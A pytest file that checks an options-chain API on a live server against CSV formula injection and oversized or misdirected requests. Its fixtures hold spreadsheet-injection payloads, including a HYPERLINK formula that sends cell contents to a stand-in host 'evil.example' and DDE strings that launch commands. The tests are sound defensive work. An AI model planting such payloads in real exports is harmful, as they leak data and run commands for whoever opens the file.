"""Hostile data and requests against a real daphne: formula strings stored in Redis
come out of the CSV download neutralised, and requests too big or aimed nowhere get
the API's errors, never a 500 or a traceback in the log."""

import asyncio
import csv
import io
import socket

import httpx
import pytest
import redis
import websockets

from api.chain import safe_cell
from devtools.processes import wait_for
from options import keys

EXPIRY, EXPIRY_MS = "2099-03-27", 4_078_224_000_000
CHAIN = f"/api/chain/bybit/BTC/{EXPIRY}/"
FORMULAS = {
    "bid": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "ask": "+1+cmd|' /C calc'!A0",
    "mark": "@SUM(1+1)*cmd|' /C calc'!A0",
    "last": "-2+3+cmd|' /C calc'!A0",
    "delta": "\t=1+1",
    "gamma": "\r=1+1",
}
PLAIN = {"mark_iv": "-0.5", "vega": "+1.5e3", "theta": "-12", "oi": "1,5"}


def symbol(strike: int, kind: str) -> str:
    return f"BTC-27MAR99-{strike}-{kind}-USDT"


def fill_hostile_chain(redis_url: str) -> None:
    """One BTC chain as a feed before validation could have left it: old hashes
    whose prices are formula strings."""
    r = redis.Redis.from_url(redis_url, decode_responses=True)
    r.sadd(keys.bases("bybit"), "BTC")
    r.zadd(keys.expiries("bybit", "BTC"), {EXPIRY: EXPIRY_MS})
    for strike in (60000, 70000, 80000):
        for kind in "CP":
            r.zadd(keys.chain("bybit", "BTC", EXPIRY), {symbol(strike, kind): strike})
            values = {**FORMULAS, **PLAIN, "underlying": "70100", "index": "70000"}
            r.hset(keys.tick("bybit", symbol(strike, kind)), mapping=values)
    r.close()


@pytest.fixture(scope="module")
def web(start_web, hostile_store):
    server = start_web("hostile", hostile_store.url)
    yield server
    server.kill()


def log_of(web) -> str:
    return web.log_path.read_text()


def error_of(response, status: int) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/json"
    error = response.json()["error"]
    assert set(error) == {"code", "message", "field"} and error["message"]
    return error


# CSV ------------------------------------------------------------------------------


def test_the_csv_download_carries_no_live_formula(web):
    response = httpx.get(f"{web.url}{CHAIN}?format=csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 3
    for row in rows:
        for side in ("call", "put"):
            # The read model refuses what is not a valid value of its field
            # (options.fields): a formula in a price field is an empty cell.
            for name in FORMULAS:
                assert row[f"{side}_{name}"] == ""
            assert row[f"{side}_theta"] == "-12"  # a plain negative number stays
            assert row[f"{side}_underlying"] == "70100"
    cells = [cell for row in rows for cell in row.values()]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert dangerous == []


def test_a_csv_cell_that_is_not_a_plain_number_cannot_start_a_formula():
    # The writer's own rule (OWASP), for text the read model would let through.
    for value in (*FORMULAS.values(), "-x", "@A1"):
        assert safe_cell(value) == "'" + value
    for value in ("-0.5", "-12", "+1.5e3", "70100", "", "BTC-27MAR99-60000-C-USDT"):
        assert safe_cell(value) == value


# Errors ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [CHAIN, f"{CHAIN}?format=csv&", "/api/ticks/bybit/X/", f"{CHAIN}?format=api&",
     "/api/", "/api/contracts/", "/"],
)  # fmt: skip
def test_too_many_parameters_get_a_json_400(web, path):
    query = "&".join(f"p{i}=1" for i in range(1001))
    sep = "" if path.endswith("&") else "?"
    response = httpx.get(f"{web.url}{path}{sep}{query}")
    error = error_of(response, 400)
    assert error["code"] == "too_many_parameters" and "1000" in error["message"]
    assert "Traceback" not in log_of(web)


def test_a_thousand_parameters_are_still_read(web):
    # The limit is Django's DATA_UPLOAD_MAX_NUMBER_FIELDS: 1,000 pass the parser
    # (and meet the endpoint's own check: they are unknown parameters).
    query = "&".join(f"p{i}=1" for i in range(1000))
    error = error_of(httpx.get(f"{web.url}{CHAIN}?{query}"), 400)
    assert error["code"] == "invalid" and error["field"] == "p0"


@pytest.mark.parametrize("length", [17_000, 60_000])
def test_a_query_string_over_16_kb_gets_a_json_414(web, length):
    response = httpx.get(f"{web.url}/api/ticks/bybit/X/?x={'a' * length}")
    error = error_of(response, 414)
    assert error["code"] == "too_long" and "16384" in error["message"]


def test_an_oversized_header_gets_a_json_431_and_the_server_goes_on(web):
    response = httpx.get(f"{web.url}/api/", headers={"X-Big": "b" * 20_000})
    assert error_of(response, 431)["code"] == "too_long"
    assert httpx.get(f"{web.url}/api/").status_code == 200


def test_a_refused_request_line_is_answered_before_the_connection_closes(web):
    # A raw client that keeps sending after the limit still reads the whole answer.
    with socket.create_connection(("127.0.0.1", web.port), timeout=10) as sock:
        sock.sendall(b"GET /api/?x=" + b"a" * 60_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 414 ")
    assert b'"code":"too_long"' in body


async def refusal_of(url: str, origin: str) -> int:
    with pytest.raises(websockets.InvalidStatus) as refused:
        async with websockets.connect(url, origin=origin, open_timeout=10):
            pass
    return refused.value.response.status_code


def test_an_unknown_websocket_path_is_refused_without_a_traceback(web):
    origin = web.url
    for path in ("/ws/nothing/", "/ws/chain/bybit/", "/"):
        url = f"ws://127.0.0.1:{web.port}{path}"
        assert asyncio.run(refusal_of(url, origin)) == 403
    wait_for(lambda: "WSREJECT /ws/nothing/" in log_of(web), 5, "the refusal logged")
    assert "No route found" not in log_of(web)
    assert "Traceback" not in log_of(web)
